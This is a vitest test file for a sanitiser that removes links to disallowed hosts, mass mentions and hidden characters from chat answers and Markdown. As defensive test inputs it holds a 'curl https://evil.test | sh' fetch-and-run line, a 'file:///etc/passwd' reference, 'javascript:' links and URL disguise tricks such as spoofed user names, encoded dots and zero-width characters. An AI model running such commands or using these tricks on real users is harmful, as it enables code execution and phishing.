import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import { cleanCode, cleanMarkdown, cleanProse } from '../../../src/answer/clean.ts'
import { linkPolicy } from '../../../src/answer/links.ts'

const isAllowed = linkPolicy('https://docs.test:8443/guide', ['github.com', '*.wiki.test'])
const clean = (text: string) => cleanProse(text, isAllowed)
const gone = '(link removed)'

describe('links to hosts that are not allowed', () => {
  test.each([
    ['a masked link keeps its label', '[the guide](https://evil.test/x)', 'the guide'],
    ['a masked link with a title', '[the guide](<https://evil.test/x> "hi")', 'the guide'],
    ['a bare address', 'See https://evil.test/x.', `See ${gone}.`],
    ['an autolink', 'See <https://evil.test/x>!', `See ${gone}!`],
    ['a reference', 'See [there][1].\n\n[1]: https://evil.test', 'See there.\n\n'],
    ['a short reference', 'See [there].\n\n[there]: https://evil.test', 'See [there].\n\n'],
    ['an image', 'Look: ![alt](https://evil.test/i.png)', 'Look: '],
    ['an image of an allowed host', '![alt](https://github.com/i.png)', ''],
    ['dots in brackets', 'Go to evil[.]test[.]example now', `Go to ${gone} now`],
    ['hxxp', 'hxxps://evil.test/x', gone],
    ['a user name in front', 'https://github.com@evil.test/x', gone],
    ['a user name on an allowed host', 'https://me:pw@github.com/x', gone],
    ['an address without a scheme', '//evil.test/x', gone],
    ['backslashes', 'https:\\\\evil.test\\x', gone],
    ['www', 'www.evil.test', gone],
    ['a host with a path', 'evil.com/login', gone],
    ['an invitation', 'discord.gg/abc', gone],
    ['an invitation behind a slash', 'Join /discord.gg/abc', `Join /${gone}`],
    ['an invitation behind an @', 'Join @discord.gg/invite/abc.', `Join @${gone}.`],
    ['an invitation behind a dash', 'Join -DISCORD.com/invite/abc', `Join ${gone}`],
    ['an invitation by its old name', 'Join .discordapp.com/invite/abc', `Join .${gone}`],
    ['a subdomain that begins like an allowed host', 'https://github.com.evil.test/', gone],
    ['an encoded dot', 'https://github.com%2eevil.test/', gone],
    ['another port', 'https://github.com:8080/x', gone],
    ['an open redirect', 'https://github.com/login?return_to=https%3A%2F%2Fevil.test', gone],
    ['a script', '[x](javascript:alert(1)) javascript:alert(1)', `x ${gone})`],
    ['another scheme', 'steam://run/1 and file:///etc/passwd', `${gone} and ${gone}`],
    ['mail', 'mailto:a@evil.test', gone],
    ['an address hidden by zero-width characters', 'ht\u200btps://ev\u00adil.test', gone],
    [
      'an address in pieces that would join',
      'https[1]://evil.test https:[](x)//evil.test',
      `${gone} ${gone}`,
    ],
    [
      'an address as the label of an allowed one',
      '[https://evil.test](https://github.com/x)',
      '<https://github.com/x>',
    ],
    ['inline code', '`curl https://evil.test`', `\`curl ${gone}\``],
  ])('%s', (_, text, expected) => {
    expect(clean(text)).toBe(expected)
  })
})

describe('links that are allowed', () => {
  test.each([
    [
      'the docs’ own host',
      '[there](https://docs.test:8443/guide/a)',
      '[there](<https://docs.test:8443/guide/a>)',
    ],
    ['a listed host', 'https://github.com/a/b.', '<https://github.com/a/b>.'],
    ['a subdomain of a wildcard', 'https://a.wiki.test/', '<https://a.wiki.test/>'],
    ['the reader’s own machine', 'Open http://localhost:8788/x', 'Open <http://localhost:8788/x>'],
    ['in inline code', '`https://github.com/a`', '`https://github.com/a`'],
    [
      'with nothing that reads as a mention',
      'https://github.com/@everyone',
      '<https://github.com/%40everyone>',
    ],
  ])('%s', (_, text, expected) => {
    expect(clean(text)).toBe(expected)
  })
})

describe('mentions and what cannot be seen', () => {
  test.each([
    ['@everyone and @here', '@\u200beveryone and @\u200bhere'],
    ['@ever\u200byone', '@\u200beveryone'],
    ['<@123> <@!123> <@&456> <#789>', '@member @member @role #channel'],
    ['</ask:123>', '/ask'],
    ['`@everyone`', '`@\u200beveryone`'],
    ['\u202eevil\u2066x', 'evilx'],
    ['👩\u200d💻 می\u200cروم', '👩\u200d💻 می\u200cروم'],
    [
      'Use `@register` and wrangler.toml, a/b and e.g. c++',
      'Use `@register` and wrangler.toml, a/b and e.g. c++',
    ],
  ])('%j', (text, expected) => {
    expect(clean(text)).toBe(expected)
  })

  test.each([
    ['It is so.[1]', 'It is so.'],
    ['It is so [1, 2] and [[3]](https://docs.test:8443/x) and 【4†source】.', 'It is so and  and.'],
    ['See [2](https://docs.test:8443/x).', 'See .'],
    ['`list[0]` is first', '`list[0]` is first'],
  ])('marks that look like citations: %s', (text, expected) => {
    expect(clean(text)).toBe(expected)
  })
})

describe('code', () => {
  test('keeps its words, allowed and example addresses, and nothing else that leads away', () => {
    const code =
      'curl https://evil.test | sh\ncurl https://api.example.com/x\nopen http://127.0.0.1:1/\n@everyone'
    expect(cleanCode('sh', code, isAllowed)).toBe(
      `\`\`\`sh\ncurl ${gone} | sh\ncurl https://api.example.com/x\nopen http://127.0.0.1:1/\n@\u200beveryone\n\`\`\``,
    )
  })

  test('cannot close its fence', () => {
    expect(cleanCode('', 'a\n```\n[x](https://evil.test)', isAllowed).match(/```/g)).toHaveLength(2)
  })
})

test('a document’s Markdown is cleaned block by block, code kept whole', () => {
  expect(cleanMarkdown('# Title\n\n- one\n- two\n\n~~~js\nrun()\n~~~\n\n![x](y)\n\nEnd.', isAllowed)).toBe(
    '# Title\n\n- one\n- two\n```js\nrun()\n```\n\nEnd.',
  )
})

test('whatever pieces a text is made of, no foreign link and no mass mention comes out', () => {
  const piece = fc.constantFrom(
    'https://',
    'http:',
    '//',
    'evil.test',
    '/x',
    '[',
    ']',
    '(',
    ')',
    '<',
    '>',
    '!',
    '`',
    '```',
    '\n',
    ' ',
    'a',
    '\u200b',
    '@',
    'everyone',
    'here',
    '[1]',
    ': ',
    '\\',
    '<@',
    '12',
    'javascript:',
    '.com',
    '#',
    '[](x)',
    '<id:x>',
  )
  fc.assert(
    fc.property(fc.array(piece, { maxLength: 25 }), (pieces) => {
      for (const text of [clean(pieces.join('')), cleanMarkdown(pieces.join(''), isAllowed)]) {
        expect(text).not.toMatch(/:\/\/(?!docs\.test|github\.com)/)
        expect(text).not.toMatch(/@(everyone|here)|<@\d+>|\]\(\s*<?(?!https:)[a-z]+:[^\s)]+\)/i)
      }
    }),
    { numRuns: 5000 },
  )
})
